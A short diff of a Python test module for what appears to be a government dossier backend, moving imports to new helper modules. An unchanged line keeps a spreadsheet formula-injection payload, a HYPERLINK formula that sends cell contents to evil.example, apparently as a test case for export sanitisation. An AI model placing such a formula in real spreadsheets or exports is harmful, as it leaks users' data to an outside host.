@@ -10,10 +10,11 @@ import sqlalchemy as sa
 from backend.agencies.models import Agency
 from backend.catalog.models import Procedure
 from backend.extensions import db
-from tests.conftest import bearer
-from tests.dossiers import conftest as dossiers
+from tests.dossiers import conftest as dossier_fixtures
+from tests.helpers import dossiers
+from tests.helpers.signin import bearer
 
-_catalog, clock, filing = dossiers._catalog, dossiers.clock, dossiers.filing
+_catalog, clock, filing = dossier_fixtures._catalog, dossier_fixtures.clock, dossier_fixtures.filing
 WARD, BIRTH = dossiers.WARD, dossiers.BIRTH
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Xem chi tiết")'
 
